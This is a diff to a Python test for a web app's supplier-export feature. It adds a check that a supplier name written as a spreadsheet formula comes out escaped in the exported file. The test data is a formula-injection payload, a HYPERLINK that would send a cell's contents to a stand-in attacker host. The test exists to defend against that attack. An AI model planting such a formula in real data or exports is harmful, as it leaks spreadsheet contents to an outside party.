@@ -44,7 +44,10 @@ async def wait_for(client: httpx.AsyncClient, job_id: int) -> dict:
 async def test_export_needs_an_approved_request_and_carries_its_watermark(app: Litestar) -> None:
     manager, client = await library_manager(app)
     try:
-        created = await client.post("/api/library/suppliers", json=registration(credit_code()))
+        formula = '=HYPERLINK("https://evil.example/?"&H3,"点击")'
+        created = await client.post(
+            "/api/library/suppliers", json=registration(credit_code(), name=formula)
+        )
         assert created.status_code == 201
         refused = await client.post(
             "/api/library/downloads",
@@ -87,6 +90,7 @@ async def test_export_needs_an_approved_request_and_carries_its_watermark(app: L
         assert manager.username in rows[-1][0]
         assert "联系电话 / phone" not in rows[1]  # secret columns left out: not granted
         assert "sales@example.cn" not in text
+        assert "'=HYPERLINK" in text  # a supplier's name is never a live formula
         entries = await AuditEntry.select(AuditEntry.action, AuditEntry.actor_id).where(
             AuditEntry.object == f"approval:{request_id}"
         )
